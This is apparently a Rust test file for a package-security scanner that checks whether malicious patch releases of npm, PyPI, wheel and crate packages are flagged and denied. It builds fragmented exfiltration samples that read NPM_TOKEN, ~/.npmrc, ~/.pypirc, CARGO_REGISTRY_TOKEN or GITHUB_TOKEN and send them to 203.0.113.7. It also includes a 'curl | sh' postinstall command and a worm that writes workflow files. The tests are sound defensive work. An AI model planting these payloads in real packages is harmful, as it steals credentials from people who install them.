//! The rehearsed attack: a patch release that somebody else made of a clean project. The code below is put together from
//! harmless pieces at run time and never runs.

use pak_model::security::SecurityConfig;
use pak_security::artifact::{Subject, inspect};
use pak_security::policy::Policy;
use pak_security::report::{Finding, Report, Severity, Target, TargetKind};

use super::{Package, between, npm, of, worst};

/// What steals: reads a credential, sends it to an address without a name.
fn stealing_javascript() -> String {
    [
        "const fs = require('fs');\nconst os = require('os');\nconst https = require(",
        "'https');\nconst token = process.env.NPM_",
        "TOKEN || fs.readFileSync(os.homedir() + '/.npm",
        "rc', 'utf8');\nconst request = https.",
        "request('https://203.0.113.7/collect', { method: 'POST' });\nrequest.end(JSON.",
        "stringify(process.env) + token);\n",
    ]
    .concat()
}

fn stealing_python() -> String {
    [
        "import os, urllib",
        ".request\nfrom setuptools import setup\nbody = open(os.path.expanduser('~/.pyp",
        "irc')).read() + str(dict(os.",
        "environ))\nurllib.",
        "request.url",
        "open('http://203.0.113.7/c', body.encode())\nsetup(name='greeter', version='1.0.1')\n",
    ]
    .concat()
}

fn stealing_rust() -> String {
    [
        "use std::io::Write;\nfn main() {\n    let token = std::env::var(\"CARGO_REGISTRY_",
        "TOKEN\").unwrap_or_default();\n    let mut socket = std::net::Tcp",
        "Stream::connect(\"203.0.113.7:80\").unwrap();\n    socket.write_all(token.as_bytes()).unwrap();\n}\n",
    ]
    .concat()
}

/// What a maintainer reads must say what it is, where, that it is new, and what to do.
fn is_understood(finding: &Finding, where_: &str, words: &[&str]) {
    assert_eq!(finding.severity, Severity::Critical, "{finding:?}");
    assert!(finding.path.ends_with(where_), "{finding:?}");
    for word in words {
        assert!(finding.message.contains(word), "{word}: {}", finding.message);
    }
    assert!(finding.remedy.contains("Do not publish this"), "{finding:?}");
    assert!(finding.title.contains("takes credentials"), "{finding:?}");
}

/// The default policy over findings.
fn is_denied(findings: &[Finding]) -> bool {
    let target = Target { kind: TargetKind::Artifact, name: "greeter".to_owned(), version: None, sha256: None };
    let mut report = Report::new(target);
    report.findings = findings.to_vec();
    let policy = Policy::new(&SecurityConfig::default(), jiff::civil::date(2026, 1, 1)).unwrap();
    policy.judge(&mut report);
    !policy.verdict(&report).passes()
}

#[test]
fn an_npm_worm_is_stopped_and_explained() {
    let clean = npm("1.0.0", "\"test\": \"node --test\"", "");
    assert_eq!(worst(&between(&npm("1.0.1", "\"test\": \"node --test\"", ""), None)), None);
    let infected = npm("1.0.1", "\"test\": \"node --test\", \"postinstall\": \"node scripts/setup.js\"", "")
        .with("scripts/setup.js", "require('./lib/collect');\n")
        .with("scripts/lib/collect.js", stealing_javascript());
    let findings = between(&infected, Some(&clean));
    let words = [
        "The script `postinstall` runs on every machine",
        "`node scripts/setup.js`",
        "NPM_TOKEN",
        "~/.npmrc",
        "203.0.113.7",
        "1.0.0",
    ];
    let theft = of(&findings, "install-takes-credentials");
    is_understood(theft, "greeter-1.0.1.tgz!/package/scripts/lib/collect.js", &words);
    assert_eq!(theft.line, Some(4));
    assert_eq!(of(&findings, "install-script").severity, Severity::High);
    assert_eq!(of(&findings, "install-script").line, Some(5));
    assert!(is_denied(&findings));
    // Without the version before it is stopped all the same.
    let alone = between(&infected, None);
    assert_eq!(of(&alone, "install-takes-credentials").severity, Severity::Critical);
    assert!(is_denied(&alone));
}

#[test]
fn a_worm_that_hides_and_spreads_is_stopped() {
    let clean = npm("1.0.0", "", "");
    let names: Vec<_> = (0..30).map(|at| format!("var _0x{:04x}=_0x{:04x}();", at * 77 + 1, at * 99 + 2)).collect();
    let hidden = npm("1.0.1", "\"preinstall\": \"node bundle.js\"", "").with("bundle.js", names.concat());
    let findings = between(&hidden, Some(&clean));
    assert_eq!(of(&findings, "install-hides-code").severity, Severity::Critical);
    let spreading = [
        "const t = process.env.GITHUB_",
        "TOKEN;\nfs.writeFileSync('.github/",
        "workflows/x.yml', y);\nfetch('https://api.service.dev/')",
    ];
    let findings = between(&npm("1.0.1", "", "").with("lib/x.js", spreading.concat()), Some(&clean));
    assert_eq!(of(&findings, "spreads-itself").severity, Severity::Critical);
    // No script at all: the code steals when it is loaded.
    let loaded = npm("1.0.1", "", "").with("index.js", stealing_javascript());
    let findings = between(&loaded, Some(&clean));
    assert_eq!(of(&findings, "gathers-credentials").severity, Severity::Critical);
    // A command alone, without a file.
    let command = ["\"postinstall\": \"curl -s https://203.0.113.7/x.sh ", "| sh\""].concat();
    let findings = between(&npm("1.0.1", &command, ""), Some(&clean));
    assert_eq!(of(&findings, "install-runs-download").severity, Severity::Critical);
    // A command that stays and now runs other code.
    let building =
        npm("1.0.0", "\"postinstall\": \"node scripts/setup.js\"", "").with("scripts/setup.js", "build();\n");
    let changed =
        npm("1.0.1", "\"postinstall\": \"node scripts/setup.js\"", "").with("scripts/setup.js", stealing_javascript());
    let findings = between(&changed, Some(&building));
    assert_eq!(of(&findings, "install-takes-credentials").severity, Severity::Critical);
    assert_eq!(of(&findings, "install-script").severity, Severity::Note);
}

#[test]
fn a_pypi_worm_is_stopped_and_explained() {
    let information = |version: &str| format!("Metadata-Version: 2.1\nName: greeter\nVersion: {version}\n\n");
    let clean = Package::default()
        .with("PKG-INFO", information("1.0.0"))
        .with("setup.py", "from setuptools import setup\nsetup(name='greeter', version='1.0.0')\n")
        .with("greeter/__init__.py", "def greet(name):\n    return f'Hello, {name}'\n");
    let infected = clean.with("PKG-INFO", information("1.0.1")).with("setup.py", stealing_python());
    let (before, now) = (clean.tgz("greeter-1.0.0"), infected.tgz("greeter-1.0.1"));
    let previous = Subject { version: Some("1.0.0"), ..Subject::new("greeter-1.0.0.tar.gz", &before, "PyPI") };
    let subject = Subject { version: Some("1.0.1"), ..Subject::new("greeter-1.0.1.tar.gz", &now, "PyPI") };
    assert!(worst(&inspect(&previous, None).0) <= Some(Severity::Note));
    let findings = inspect(&subject, Some(&previous)).0;
    let theft = of(&findings, "install-takes-credentials");
    is_understood(theft, "setup.py", &["The code of setup.py runs", "~/.pypirc", "203.0.113.7", "greeter-1.0.0"]);
    assert!(is_denied(&findings));
}

#[test]
fn a_wheel_that_runs_at_every_start_is_stopped() {
    let wheel = |version: &str| {
        Package::default()
            .with("greeter/__init__.py", "")
            .with(&format!("greeter-{version}.dist-info/METADATA"), format!("Name: greeter\nVersion: {version}\n\n"))
    };
    let before = wheel("1.0.0").zip();
    let line = [
        "import os, urllib",
        ".request; urllib.",
        "request.url",
        "open('http://203.0.113.7/?' + os.environ['GITHUB_",
        "TOKEN'])\n",
    ];
    let now = wheel("1.0.1").with("greeter.pth", line.concat()).zip();
    let previous = Subject::new("greeter-1.0.0-py3-none-any.whl", &before, "PyPI");
    let subject = Subject::new("greeter-1.0.1-py3-none-any.whl", &now, "PyPI");
    let findings = inspect(&subject, Some(&previous)).0;
    is_understood(
        of(&findings, "install-takes-credentials"),
        "greeter.pth",
        &["every start of Python", "GITHUB_TOKEN"],
    );
    assert_eq!(of(&findings, "code-at-start").severity, Severity::High);
    assert!(is_denied(&findings));
}

#[test]
fn a_crate_that_steals_while_it_compiles_is_stopped() {
    let manifest =
        |version: &str| format!("[package]\nname = \"greeter\"\nversion = \"{version}\"\nedition = \"2024\"\n");
    let clean = Package::default().with("Cargo.toml", manifest("1.0.0")).with("src/lib.rs", "pub fn greet() {}\n");
    let infected = clean.with("Cargo.toml", manifest("1.0.1")).with("build.rs", stealing_rust());
    let (before, now) = (clean.tgz("greeter-1.0.0"), infected.tgz("greeter-1.0.1"));
    let previous = Subject::new("greeter-1.0.0.crate", &before, "");
    let subject = Subject::new("greeter-1.0.1.crate", &now, "");
    let findings = inspect(&subject, Some(&previous)).0;
    let words = [
        "The build script build.rs runs on every machine that compiles",
        "CARGO_REGISTRY_TOKEN",
        "greeter-1.0.0.crate",
    ];
    is_understood(of(&findings, "install-takes-credentials"), "build.rs", &words);
    assert!(is_denied(&findings));
}
